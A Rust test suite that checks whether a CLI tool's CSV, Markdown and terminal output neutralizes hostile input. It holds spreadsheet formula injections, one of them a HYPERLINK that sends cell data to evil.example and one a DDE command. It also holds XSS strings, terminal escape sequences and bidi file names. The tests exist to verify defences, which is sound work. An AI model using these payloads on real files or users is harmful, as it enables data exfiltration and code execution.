//! Output that other programs read, and output that fails: generated attacks on the CSV and
//! Markdown writers, on clap's messages and on paths in messages; extreme numbers; a stdout
//! closed early and a stderr that is full or closed. Each test prints its figures.
//!
//! `AFFEX_TEST_BIN=/path/to/affex` runs the same generators against another build (to measure
//! the figures before a fix); the assertions then say what that build gets wrong.

use std::ffi::OsString;
use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::{empty_home, hostile_payloads, hostile_profile, toml_escape, unsafe_chars};

/// The binary under test, with a clean environment.
fn affex(home: &tempfile::TempDir) -> Command {
    let bin = std::env::var_os("AFFEX_TEST_BIN")
        .unwrap_or_else(|| OsString::from(env!("CARGO_BIN_EXE_affex")));
    let mut cmd = Command::new(bin);
    cmd.env("XDG_CONFIG_HOME", home.path())
        .env("HOME", home.path())
        .env("TERM", "xterm-256color")
        .env_remove("NO_COLOR")
        .env_remove("CLICOLOR")
        .env_remove("CLICOLOR_FORCE");
    cmd
}

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Formula payloads: each start character before a few bodies, and after leading spaces.
fn formula_payloads() -> Vec<String> {
    let bodies = [
        "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "cmd|' /C calc'!A0",
        "1+1",
        "SUM(A1:A9)",
    ];
    let mut out = Vec::new();
    for start in FORMULA_STARTS {
        for body in bodies {
            out.push(format!("{start}{body}"));
            out.push(format!("  {start}{body}"));
        }
    }
    out
}

/// A formula would run: the cell's first character other than spaces starts one.
fn is_formula(cell: &str) -> bool {
    cell.trim_start_matches(' ')
        .chars()
        .next()
        .is_some_and(|c| FORMULA_STARTS.contains(&c))
}

#[test]
fn no_csv_cell_starts_a_formula() {
    let home = empty_home();
    let dir = tempfile::tempdir().expect("temp dir");
    let payloads = formula_payloads();
    let mut ids = Vec::new();
    for (i, payload) in payloads.iter().enumerate() {
        // Ids may start with `-` too.
        let id = if i % 2 == 0 {
            format!("p{i}")
        } else {
            format!("-p{i}")
        };
        std::fs::write(
            dir.path().join(format!("p{i}.toml")),
            hostile_profile(&id, &toml_escape(payload)),
        )
        .expect("write profile");
        ids.push(id);
    }
    let mut runs: Vec<Vec<String>> = vec![vec!["list".into(), "--format".into(), "csv".into()]];
    for chunk in ids.chunks(8) {
        let mut args: Vec<String> = vec!["compare".into(), "--format".into(), "csv".into()];
        args.push("--".into());
        args.extend(chunk.iter().cloned());
        runs.push(args);
    }
    let (mut cells, mut formulas) = (0usize, 0usize);
    for args in &runs {
        let out = affex(&home)
            .arg("--no-bundled")
            .arg("--profiles")
            .arg(dir.path())
            .args(args)
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(0), "{args:?}");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(out.stdout.as_slice());
        for record in reader.records() {
            for cell in record.expect("valid CSV").iter() {
                cells += 1;
                if is_formula(cell) {
                    formulas += 1;
                }
            }
        }
    }
    eprintln!(
        "CSV: {} formula payloads in every field, {} runs: {formulas} of {cells} cells start a formula",
        payloads.len(),
        runs.len()
    );
    assert!(cells > 1_000);
    assert_eq!(formulas, 0);
}

/// Markdown and HTML payloads: raw HTML, script links, remote images, entities, emphasis,
/// code, headings, table breaks and backslashes, alone and mixed.
fn markup_payloads() -> Vec<String> {
    let parts = [
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "![pixel](http://evil.example/p.png)",
        "<script>alert(1)</script>",
        "&lt;b&gt;",
        "**bold**",
        "_it_",
        "`code`",
        "# heading",
        "a|b",
        "back\\slash\\",
        "<https://evil.example>",
        "~~gone~~",
        "[ref]: http://evil.example",
    ];
    let mut out: Vec<String> = parts.iter().map(|p| p.to_string()).collect();
    for (i, a) in parts.iter().enumerate() {
        out.push(format!("{a}{}", parts[(i * 5 + 3) % parts.len()]));
    }
    out
}

/// The cells of one Markdown table line, split at `|` that no backslash escapes.
fn table_cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                let last = cells.last_mut().expect("a cell");
                last.push('\\');
                if let Some(n) = chars.next() {
                    last.push(n);
                }
            }
            '|' => cells.push(String::new()),
            c => cells.last_mut().expect("a cell").push(c),
        }
    }
    cells
        .into_iter()
        .map(|c| c.trim().to_string())
        .filter(|c| !c.is_empty())
        .collect()
}

#[test]
fn no_markdown_cell_carries_markup() {
    let home = empty_home();
    let dir = tempfile::tempdir().expect("temp dir");
    let payloads = markup_payloads();
    let ids: Vec<String> = (0..payloads.len()).map(|i| format!("m{i}")).collect();
    for (id, payload) in ids.iter().zip(&payloads) {
        std::fs::write(
            dir.path().join(format!("{id}.toml")),
            hostile_profile(id, &toml_escape(payload)),
        )
        .expect("write profile");
    }
    let (mut cells, mut live) = (0usize, Vec::new());
    for chunk in ids.chunks(6) {
        let out = affex(&home)
            .arg("--no-bundled")
            .arg("--profiles")
            .arg(dir.path())
            .args(["compare", "--format", "markdown"])
            .args(chunk)
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(0));
        let text = String::from_utf8(out.stdout).expect("UTF-8");
        for (n, line) in text.lines().enumerate() {
            if n == 1 || !line.starts_with('|') {
                continue; // the separator row, the footnote
            }
            for cell in table_cells(line) {
                cells += 1;
                // `**…**` around the best value is ours.
                let inner = cell
                    .strip_prefix("**")
                    .and_then(|c| c.strip_suffix("**"))
                    .unwrap_or(&cell);
                if !affex::export::markdown::is_inert(inner) {
                    live.push(cell);
                }
            }
        }
    }
    eprintln!(
        "Markdown: {} markup payloads: {} of {cells} cells carry live markup",
        payloads.len(),
        live.len()
    );
    assert!(cells > 200);
    assert!(live.is_empty(), "{:?}", &live[..live.len().min(5)]);
}

#[test]
fn no_escape_from_argv_reaches_the_terminal_through_clap() {
    let home = empty_home();
    let payloads: Vec<String> = hostile_payloads()
        .into_iter()
        .map(|(_, raw)| raw.replace('\0', ""))
        .filter(|raw| !raw.is_empty())
        .collect();
    let (mut runs, mut leaked) = (0usize, 0usize);
    for payload in &payloads {
        let cases: Vec<Vec<String>> = vec![
            vec!["list".into(), "--format".into(), payload.clone()],
            vec!["--color".into(), payload.clone(), "list".into()],
            vec![payload.clone()],
            vec!["list".into(), format!("--{payload}")],
            vec!["show".into(), "--format".into(), format!("x{payload}")],
            vec![
                "compare".into(),
                "--format".into(),
                payload.clone(),
                "a".into(),
            ],
        ];
        for args in cases {
            let out = affex(&home).args(&args).output().expect("runs");
            runs += 1;
            assert_eq!(out.status.code(), Some(2), "{args:?}");
            let stderr = String::from_utf8_lossy(&out.stderr);
            let bad = unsafe_chars(&stderr);
            if !bad.is_empty() {
                leaked += 1;
            }
        }
    }
    eprintln!(
        "clap errors: {} payloads in 6 argument positions, {runs} runs: {leaked} let a control character through",
        payloads.len()
    );
    assert_eq!(leaked, 0);
    // The payload is shown escaped, so the user sees what was typed.
    let out = affex(&home)
        .args(["list", "--format", "x\u{1b}]0;PWNED\u{7}"])
        .output()
        .expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("x\\e]0;PWNED\\u{7}"), "{stderr}");
}

/// File names with escapes, bidi controls, zero-width characters and bytes that are not
/// UTF-8: the message names each so that it can be found.
#[cfg(unix)]
#[test]
fn paths_in_messages_show_their_hidden_bytes() {
    use std::os::unix::ffi::OsStrExt;
    let home = empty_home();
    let names: Vec<(Vec<u8>, &str)> = vec![
        (b"a\x1b[31mred.toml".to_vec(), "a\\e[31mred.toml"),
        (
            "evil\u{202e}lmot.toml".as_bytes().to_vec(),
            "evil\\u{202e}lmot.toml",
        ),
        (
            "zero\u{200b}width.toml".as_bytes().to_vec(),
            "zero\\u{200b}width.toml",
        ),
        (b"bell\x07.toml".to_vec(), "bell\\u{7}.toml"),
        (b"latin1-\xe9.toml".to_vec(), "latin1-\\xe9.toml"),
        (b"tab\there.toml".to_vec(), "tab\\there.toml"),
    ];
    let mut found = 0;
    for (raw, shown) in &names {
        let dir = tempfile::tempdir().expect("temp dir");
        std::fs::write(
            dir.path().join(std::ffi::OsStr::from_bytes(raw)),
            "id = \"x\"\nname = 1\n",
        )
        .expect("write");
        let out = affex(&home)
            .arg("validate")
            .arg(dir.path())
            .output()
            .expect("runs");
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        assert!(unsafe_chars(&text).is_empty(), "{text:?}");
        if text.contains(shown) {
            found += 1;
        }
    }
    // A key that sanitizes to nothing is shown escaped too.
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        dir.path().join("k.toml"),
        "id = \"k\"\nname = \"K\"\n\"\u{200b}\" = 1\n",
    )
    .expect("write");
    let out = affex(&home)
        .arg("validate")
        .arg(dir.path())
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&out.stdout);
    eprintln!(
        "paths: {found} of {} hidden file names shown findable; blank key shown as {}",
        names.len(),
        if text.contains("`\\u{200b}`") {
            "`\\u{200b}`"
        } else {
            "something else"
        }
    );
    assert_eq!(found, names.len());
    assert!(text.contains("unknown key `\\u{200b}`"), "{text}");
}

/// Amounts and percentages across the range of `f64`: each profile is refused with the
/// bounds named, or listed with a figure that fits a cell.
#[test]
fn extreme_numbers_are_refused_or_shown_short() {
    let home = empty_home();
    let dir = tempfile::tempdir().expect("temp dir");
    let values = [
        "1.8e308",
        "1e300",
        "1e15",
        "1e9",
        "1000000001",
        "5e-324",
        "1e-300",
        "0.001",
        "0.125",
        "99.999",
        "100.004",
        "-0.0",
        "2.5e-7",
    ];
    for (i, v) in values.iter().enumerate() {
        std::fs::write(
            dir.path().join(format!("n{i}.toml")),
            format!("id = \"n{i}\"\nname = \"N{i}\"\n[commission]\nrate = {{ max = {v} }}\n"),
        )
        .expect("write");
        std::fs::write(
            dir.path().join(format!("m{i}.toml")),
            format!(
                "id = \"m{i}\"\nname = \"M{i}\"\n[payout]\nminimum = {{ min = {v}, currency = \"USD\" }}\n"
            ),
        )
        .expect("write");
    }
    let out = affex(&home)
        .args(["--no-bundled", "--profiles"])
        .arg(dir.path())
        .args(["list", "--format", "csv"])
        .output()
        .expect("runs");
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let (mut listed, mut longest, mut tiny_shown_as_zero) = (0, 0, 0);
    for record in reader.records() {
        listed += 1;
        for cell in record.expect("CSV").iter() {
            longest = longest.max(cell.chars().count());
        }
    }
    let validate = affex(&home)
        .arg("validate")
        .arg(dir.path())
        .output()
        .expect("runs");
    let report = String::from_utf8_lossy(&validate.stdout);
    let refused = report.matches("from 0 to").count();
    // A tiny non-zero rate must not beat a stated 0: it is 0 once rounded.
    let cmp = affex(&home)
        .args(["--no-bundled", "--profiles"])
        .arg(dir.path())
        .args(["compare", "--format", "json", "n6", "n12"])
        .output()
        .expect("runs");
    let json: serde_json::Value = serde_json::from_slice(&cmp.stdout).expect("JSON");
    if let Some(rows) = json["rows"].as_array() {
        for row in rows.iter().filter(|r| r["key"] == "commission") {
            let marks: Vec<&serde_json::Value> = row["cells"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|c| &c["mark"])
                .collect();
            if marks.first() != marks.get(1) {
                tiny_shown_as_zero += 1;
            }
        }
    }
    eprintln!(
        "numbers: {} extreme values: {listed} profiles listed, longest CSV cell {longest} \
         characters, {refused} refusals naming the bounds, 5e-324 ranked apart from 0: {tiny_shown_as_zero}",
        values.len()
    );
    assert!(longest <= 40, "no figure runs to hundreds of digits");
    assert!(refused >= 8, "{report}");
    assert!(json["rows"].is_array());
    assert_eq!(tiny_shown_as_zero, 0);
}

/// A directory of `n` generated profiles, enough output to fill a pipe many times over.
fn big_catalog(n: usize) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    for i in 0..n {
        std::fs::write(
            dir.path().join(format!("g{i}.toml")),
            crate::generator::to_toml(&crate::generator::program(11, i)),
        )
        .expect("write");
    }
    dir
}

#[test]
fn a_stdout_closed_early_ends_quietly_with_status_0() {
    let home = empty_home();
    let dir = big_catalog(1_500);
    let ids: Vec<String> = (0..40)
        .map(|i| crate::generator::program(11, i).id.to_string())
        .collect();
    let mut cases: Vec<Vec<String>> = ["table", "json", "csv", "ids"]
        .iter()
        .map(|f| vec!["list".to_string(), "--format".into(), f.to_string()])
        .collect();
    for f in ["json", "csv", "markdown", "table"] {
        let mut args = vec!["compare".to_string(), "--format".into(), f.into()];
        args.extend(ids.iter().cloned());
        cases.push(args);
    }
    // The commands that print no catalog: generated text, longer than a pipe's first read.
    for args in [
        vec!["completions", "bash"],
        vec!["completions", "zsh"],
        vec!["completions", "fish"],
        vec!["man"],
        vec!["schema"],
        vec!["validate", "--format", "json"],
    ] {
        cases.push(args.into_iter().map(String::from).collect());
    }
    let (mut runs, mut noisy) = (0, Vec::new());
    for args in &cases {
        for keep in [0usize, 1, 100, 5_000] {
            let mut child = affex(&home)
                .args(["--no-bundled", "--profiles"])
                .arg(dir.path())
                .args(args)
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("runs");
            let mut stdout = child.stdout.take().expect("stdout");
            let mut buf = vec![0u8; keep];
            let _ = stdout.read_exact(&mut buf);
            drop(stdout); // like `| head -c KEEP`
            let out = child.wait_with_output().expect("ends");
            runs += 1;
            if out.status.code() != Some(0) || !out.stderr.is_empty() {
                noisy.push(format!(
                    "{args:?} after {keep} bytes: {:?} {}",
                    out.status,
                    String::from_utf8_lossy(&out.stderr)
                ));
            }
        }
    }
    eprintln!(
        "closed stdout: {runs} runs, {} ended with a message or a status other than 0",
        noisy.len()
    );
    assert!(noisy.is_empty(), "{noisy:#?}");
}

#[cfg(unix)]
#[test]
fn a_full_or_closed_stderr_never_panics() {
    use std::os::unix::process::CommandExt;
    let home = empty_home();
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("bad.toml"), "id = \"bad\"\nname = 1\n").expect("write");
    let cases: Vec<(Vec<&str>, i32)> = vec![
        (vec!["list"], 0),                     // the "profiles skipped" warning
        (vec!["show", "no-such-id"], 2),       // an error
        (vec!["list", "--format", "nope"], 2), // a clap error
    ];
    let (mut runs, mut panics) = (0, 0);
    for (args, code) in &cases {
        for closed in [false, true] {
            let mut cmd = affex(&home);
            cmd.arg("--profiles").arg(dir.path()).args(args);
            cmd.stdout(Stdio::null());
            if closed {
                // SAFETY: `close` is async-signal-safe; nothing else runs between fork and exec.
                unsafe {
                    cmd.pre_exec(|| {
                        let _ = nix::unistd::close(2);
                        Ok(())
                    });
                }
            } else {
                cmd.stderr(std::fs::File::create("/dev/full").expect("/dev/full"));
            }
            let status = cmd.status().expect("runs");
            runs += 1;
            if status.code() == Some(101) {
                panics += 1;
            }
            assert_eq!(status.code(), Some(*code), "{args:?} closed={closed}");
        }
    }
    eprintln!("full or closed stderr: {runs} runs, {panics} panics");
    assert_eq!(panics, 0);
}

#[cfg(unix)]
#[test]
fn output_to_a_full_disk_fails_with_an_error() {
    let home = empty_home();
    let (mut runs, mut silent) = (0, Vec::new());
    for args in [
        vec!["--help"],
        vec!["--version"],
        vec!["list", "--help"],
        vec!["list", "--format", "json"],
        vec!["list"],
        vec!["compare", "aliexpress", "temu", "--format", "csv"],
        // Once a panic (exit 101) inside clap_complete, and "cannot encode output" with the
        // usage status 2: every write failure is an I/O error, status 1.
        vec!["completions", "bash"],
        vec!["completions", "zsh"],
        vec!["man"],
        vec!["schema"],
        vec!["schema", "--catalog"],
        vec!["validate", "--format", "json", "assets/profiles"],
    ] {
        let out = affex(&home)
            .args(&args)
            .stdout(std::fs::File::create("/dev/full").expect("/dev/full"))
            .output()
            .expect("runs");
        runs += 1;
        let stderr = String::from_utf8_lossy(&out.stderr);
        if out.status.code() != Some(1) || !stderr.contains("No space left") {
            silent.push(format!("{args:?}: {:?} {stderr}", out.status));
        }
    }
    eprintln!(
        "stdout on a full disk: {runs} runs, {} exited 0 or said nothing",
        silent.len()
    );
    assert!(silent.is_empty(), "{silent:#?}");
}

/// Not a test of the binary: the default `affex` used for the figures exists.
#[test]
fn the_binary_under_test_exists() {
    let bin = std::env::var_os("AFFEX_TEST_BIN")
        .unwrap_or_else(|| OsString::from(env!("CARGO_BIN_EXE_affex")));
    assert!(Path::new(&bin).exists());
}
